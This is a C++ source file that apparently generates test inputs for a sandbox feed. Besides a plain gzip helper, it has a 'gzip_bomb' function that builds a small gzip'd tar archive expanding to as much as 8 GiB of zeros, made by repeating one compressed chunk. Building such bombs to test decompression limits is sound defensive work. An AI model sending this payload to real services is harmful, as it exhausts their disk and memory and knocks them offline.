#include "gzip.hpp"

#include <zlib.h>

#include <array>
#include <cstdio>
#include <cstring>

#include "sandbox/feed/pki.hpp"

namespace sandbox::feed {
namespace {

constexpr std::size_t kChunk = std::size_t{1} << 20;
constexpr std::uint64_t kTarSizeLimit = std::uint64_t{8} << 30;  // 11 octal digits

class Deflater {
public:
    // windowBits: -15 raw deflate, 31 gzip framing.
    explicit Deflater(int window_bits) {
        if (deflateInit2(&z_, 9, Z_DEFLATED, window_bits, 9, Z_DEFAULT_STRATEGY) != Z_OK)
            throw FeedError("deflateInit2 failed");
    }
    ~Deflater() { deflateEnd(&z_); }
    Deflater(const Deflater&) = delete;
    Deflater& operator=(const Deflater&) = delete;

    // Compresses `in` and flushes with `flush`; returns what came out.
    std::string run(std::string_view in, int flush) {
        std::string out;
        z_.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
        z_.avail_in = static_cast<uInt>(in.size());
        std::array<char, 65536> buffer;
        int rc;
        do {
            z_.next_out = reinterpret_cast<Bytef*>(buffer.data());
            z_.avail_out = buffer.size();
            rc = deflate(&z_, flush);
            if (rc == Z_STREAM_ERROR) throw FeedError("deflate failed");
            out.append(buffer.data(), buffer.size() - z_.avail_out);
        } while (z_.avail_out == 0 || (flush == Z_FINISH && rc != Z_STREAM_END));
        return out;
    }

private:
    z_stream z_{};
};

// A ustar header for a regular file.
std::string tar_header(std::string_view name, std::uint64_t size) {
    std::string h(512, '\0');
    std::memcpy(h.data(), name.data(), std::min<std::size_t>(name.size(), 99));
    std::snprintf(h.data() + 100, 8, "%07o", 0644u);
    std::snprintf(h.data() + 108, 8, "%07o", 0u);
    std::snprintf(h.data() + 116, 8, "%07o", 0u);
    std::snprintf(h.data() + 124, 12, "%011llo", static_cast<unsigned long long>(size));
    std::snprintf(h.data() + 136, 12, "%011o", 1700000000u);
    h[156] = '0';
    std::memcpy(h.data() + 257, "ustar", 6);
    std::memcpy(h.data() + 263, "00", 2);
    std::memcpy(h.data() + 265, "root", 4);
    std::memcpy(h.data() + 297, "root", 4);
    std::memset(h.data() + 148, ' ', 8);
    unsigned sum = 0;
    for (char c : h) sum += static_cast<unsigned char>(c);
    std::snprintf(h.data() + 148, 8, "%06o", sum);
    h[155] = ' ';
    return h;
}

void put_le32(std::string& out, std::uint32_t v) {
    for (int i = 0; i < 4; ++i) out += static_cast<char>((v >> (8 * i)) & 0xff);
}

}  // namespace

std::string gzip(std::string_view bytes) {
    Deflater d(31);
    return d.run(bytes, Z_FINISH);
}

std::string gzip_bomb(std::string_view member, std::uint64_t size) {
    const std::uint64_t chunks = (size + kChunk - 1) / kChunk;
    if (chunks == 0 || chunks * kChunk >= kTarSizeLimit) throw FeedError("a gzip bomb holds 1 MiB to 8 GiB");
    const std::uint64_t member_size = chunks * kChunk;
    const std::string header = tar_header(member, member_size);
    const std::string zeros(kChunk, '\0');
    const std::string_view tail(zeros.data(), 1024);  // the tar end-of-archive blocks

    // Each piece ends with a full flush: byte-aligned and referring to nothing before it, so the
    // compressed zero chunk can simply be repeated.
    Deflater d(-15);
    std::string head_z = d.run(header, Z_FULL_FLUSH);
    std::string chunk_z = d.run(zeros, Z_FULL_FLUSH);
    std::string tail_z = d.run(tail, Z_FINISH);

    uLong crc = crc32(0L, reinterpret_cast<const Bytef*>(header.data()), static_cast<uInt>(header.size()));
    const uLong chunk_crc = crc32(0L, reinterpret_cast<const Bytef*>(zeros.data()), static_cast<uInt>(kChunk));
    for (std::uint64_t i = 0; i < chunks; ++i) crc = crc32_combine(crc, chunk_crc, static_cast<z_off_t>(kChunk));
    crc = crc32_combine(crc, crc32(0L, reinterpret_cast<const Bytef*>(tail.data()), static_cast<uInt>(tail.size())),
                        static_cast<z_off_t>(tail.size()));

    std::string out("\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03", 10);
    out.reserve(out.size() + head_z.size() + chunk_z.size() * chunks + tail_z.size() + 8);
    out += head_z;
    for (std::uint64_t i = 0; i < chunks; ++i) out += chunk_z;
    out += tail_z;
    put_le32(out, static_cast<std::uint32_t>(crc));
    put_le32(out, static_cast<std::uint32_t>((header.size() + member_size + tail.size()) & 0xffffffffu));
    return out;
}

}  // namespace sandbox::feed
